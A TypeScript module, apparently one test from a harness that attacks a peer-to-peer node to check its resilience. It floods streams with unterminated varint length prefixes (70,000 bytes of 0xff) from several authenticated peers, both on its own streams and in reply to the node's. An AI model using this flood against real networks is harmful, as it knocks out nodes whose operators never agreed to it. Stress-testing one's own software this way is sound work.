import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, sentByAll, type Target } from '../attack.ts';
import { connectRawStranger } from '../raw-stranger.ts';

const STRANGERS = 4;
const STREAMS = 64;
const PAUSE_MS = 50;
const HEADER = Buffer.from('\x13/multistream/1.0.0\n', 'latin1');
const ENDLESS = Buffer.alloc(70_000, 0xff);

/** Sends endless lengths on streams of its own, and answers with them on those that the node opens. */
const flood = async ({ p2p }: Target, signal: AbortSignal): Promise<number> => {
  let sent = 0;
  while (!signal.aborted) {
    const stranger = await connectRawStranger(p2p.multiaddr, {
      onStream: (stream) => {
        sent += ENDLESS.length;
        stream.send(Buffer.concat([HEADER, ENDLESS]));
      },
    }).catch(() => undefined);
    for (let i = 0; stranger?.isConnected() && i < STREAMS && !signal.aborted; i++) {
      // Its connection may end at any call.
      const stream = await stranger.openRaw().catch(() => undefined);
      if (stream?.writeStatus !== 'writable') break;
      sent += ENDLESS.length;
      stream.send(ENDLESS);
    }
    await sleep(PAUSE_MS);
    await stranger?.stop();
  }
  return sent;
};

export const attack: Attack = {
  name: 'stream-varint',
  what: `${STRANGERS} authenticated strangers send lengths that do not end on streams, in proposals and in answers.`,
  run: async ({ targets }, signal) => {
    const floods = targets.flatMap((target) =>
      Array.from({ length: STRANGERS }, () => flood(target, signal)),
    );
    return sentByAll(floods);
  },
};
